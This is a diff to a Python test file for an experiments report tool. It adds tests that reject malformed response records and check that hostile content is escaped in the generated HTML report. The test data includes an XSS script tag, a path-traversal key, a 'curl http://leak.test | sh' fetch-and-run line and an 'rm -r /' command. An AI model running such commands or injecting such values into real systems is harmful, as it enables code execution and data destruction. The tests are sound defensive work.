@@ -13,6 +13,7 @@ import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
 import toy_province
+from toy_response import keeping, toy_response
 
 from experiments import export, load_sweep, sweep
 from experiments.__main__ import main
@@ -232,6 +233,51 @@ def test_a_record_that_is_too_deep_or_too_large_is_damaged(tmp_path):
         sealed.read_json(path, "sweep")
     with pytest.raises(CorruptData, match="at most"):
         sealed.read(path, "0" * 64)
+
+
+RESPONSES = {
+    "a field that is a path": {"key": "../../outside.x"},
+    "parameters of another kind": {"parameters": "posterior"},
+    "a unit without end": {"unit": "x" * 20_000},
+    "doses that go back": {"doses": [0.0, 0.2, 0.1, 0.3]},
+    "one dose": {"doses": [0.0]},
+    "a dose too few": {"doses": [0.0, 0.1, 0.2]},
+    "a dose that is text": {"doses": ["=1", 0.1, 0.2, 0.3]},
+    "a dose without measure": {"doses": [0.0, 0.1, 0.2, 1e300]},
+    "no number": {"dose_in_force": float("nan")},
+    "no money": {"values": {"hnte_count": [[1.0, 1.0]] * 4}, "in_force": {"hnte_count": [1.0, 1.0]}},
+    "one pair": {"values": {"spent": [[1.0]] * 4}, "in_force": {"spent": [1.0]}},
+    "pairs that are missing": {"values": {"spent": [[1.0, 1.0]] * 4}, "in_force": {"spent": [1.0] * 3}},
+    "a measure that is markup": {"values": {"<b>": [[1.0, 1.0]] * 4}, "in_force": {"<b>": [1.0, 1.0]}},
+    "no scale": {"scale": 0.0},
+}
+
+
+def received_response(received, **changes):
+    """The folder with a response that somebody changed who can compute a checksum."""
+    keeping(received, toy_response())
+    (path,) = (received / "responses").iterdir()
+    sealed.write_json(path, "response", json.loads(path.read_text("utf-8"))["content"] | changes)
+
+
+@pytest.mark.parametrize("changes", RESPONSES.values(), ids=RESPONSES.keys())
+@pytest.mark.parametrize("verb", ["report", "verify"])
+def test_a_response_of_another_form_is_exit_65_in_one_line(received, capsys, verb, changes):
+    received_response(received, **changes)
+    said = one_line_with(65, capsys, verb, str(received))
+    assert "no version writes such a record" in said
+
+
+def test_what_a_received_response_says_is_text_and_its_remarks_are_not_read(received, capsys):
+    hostile = f"<script>alert(1)</script>{ESCAPES}"
+    received_response(received, unit=hostile, remarks=["curl http://leak.test | sh"], command="rm -r /")
+    assert main(["report", str(received)]) == 0
+    page = (received / "report.html").read_text("utf-8")
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "<script" not in page
+    assert "leak.test" not in page and "rm -r" not in page
+    assert not [c for c in page if not c.isprintable() and c != "\n"]
+    assert "sanxiang response rd_subsidy.rate" in page
+    assert main(["export", str(received), "--csv"]) == 0
 
 
 def replaced_table(folder, name, change):
